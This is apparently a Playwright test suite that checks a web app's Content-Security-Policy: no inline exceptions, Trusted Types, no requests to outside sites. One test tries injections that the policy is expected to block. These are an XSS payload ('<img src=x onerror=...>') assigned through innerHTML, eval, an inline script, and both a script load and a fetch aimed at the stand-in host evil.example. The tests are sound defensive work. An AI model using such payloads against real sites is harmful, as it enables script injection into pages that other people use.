// The policy as the browser holds to it: no exception for anything inline, no text that becomes markup or program, no other site.
import { expect, test } from '@playwright/test';
import { App } from '../kit/app.ts';

const PAGES = ['/', '/en', '/es', '/ar', '/s', '/s#example', '/en/safety', '/away', '/nowhere', '/404'];
let app: App;
test.beforeAll(async () => {
	app = await new App().start();
});
test.afterAll(async () => app.remove());

test('[S5] [S10] [P1] no page needs an exception, none complains, and none asks another site for anything', async ({
	browser
}) => {
	const context = await browser.newContext({ locale: 'en' });
	const page = await context.newPage();
	const complaints: string[] = [];
	const strangers: string[] = [];
	page.on('console', (message) => {
		if (/policy|trusted|refused/i.test(message.text())) complaints.push(message.text());
	});
	page.on('pageerror', (error) => complaints.push(error.message));
	context.on('request', (request) => {
		if (!request.url().startsWith(app.url) && !/^(blob|data):/.test(request.url())) strangers.push(request.url());
	});
	for (const path of PAGES) {
		const answer = (await page.goto(app.url + path)) ?? (await page.reload());
		const policy = answer!.headers()['content-security-policy']!;
		const own = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
		for (const words of [policy, own!]) {
			expect(words, path).not.toMatch(/unsafe-inline|unsafe-hashes|'unsafe-eval'|strict-dynamic|\*|https?:/);
			expect(words, path).toMatch(/default-src 'none'/);
			expect(words, path).toMatch(/require-trusted-types-for 'script'/);
		}
		expect(policy, path).toMatch(/frame-ancestors 'none'$/);
		expect(answer!.headers()['cache-control'], path).toBe('no-store');
		await page.waitForTimeout(400);
		expect(await page.locator('body [style]:not([style=""])').count(), `${path}: a style attribute`).toBe(0);
	}
	// Kit's announcer is there, is not seen, and speaks.
	await page.goto(`${app.url}/en`);
	const announcer = page.locator('#svelte-announcer');
	await expect(announcer).toBeAttached();
	const box = await announcer.boundingBox();
	expect((box?.width ?? 0) * (box?.height ?? 0)).toBeLessThanOrEqual(1);
	expect(complaints).toEqual([]);
	expect(strangers).toEqual([]);
	await context.close();
});

for (const path of ['/en', '/s#example', '/away'])
	test(`[S5] on ${path} a text does not become markup, a program or a style`, async ({ browser }) => {
		const page = await browser.newPage({ serviceWorkers: 'block' });
		await page.goto(app.url + path);
		await page.waitForTimeout(300);
		const tried = await page.evaluate(async () => {
			const results: Record<string, string> = {};
			const attempt = (name: string, work: () => void) => {
				try {
					work();
					results[name] = 'went through';
				} catch (error) {
					results[name] = (error as Error).name;
				}
			};
			const loose = globalThis as unknown as { hit?: boolean };
			attempt('innerHTML', () => (document.createElement('div').innerHTML = '<img src=x onerror="hit=true">'));
			// What the test tool runs itself may evaluate texts; what runs later is the page's.
			await new Promise<void>((done) =>
				setTimeout(() => {
					attempt('eval', () => (0, eval)('globalThis.hit = true'));
					done();
				})
			);
			attempt('script text', () => {
				const script = document.createElement('script');
				script.textContent = 'globalThis.hit = true';
				document.head.append(script);
			});
			attempt('script from elsewhere', () => {
				const script = document.createElement('script');
				script.src = 'https://evil.example/x.js';
				document.head.append(script);
			});
			const styled = document.createElement('p');
			styled.setAttribute('style', 'position: fixed');
			document.body.append(styled);
			results['style attribute'] = getComputedStyle(styled).position;
			styled.remove();
			await new Promise((done) => setTimeout(done, 200));
			results['hit'] = String(loose.hit ?? false);
			results['asked elsewhere'] = await fetch('https://evil.example/').then(
				() => 'went through',
				(error: Error) => error.name
			);
			return results;
		});
		expect(tried).toEqual({
			innerHTML: 'TypeError',
			eval: expect.stringMatching(/Error$/),
			'script text': 'TypeError',
			'script from elsewhere': 'TypeError',
			'style attribute': 'static',
			hit: 'false',
			'asked elsewhere': 'TypeError'
		});
		await page.close();
	});
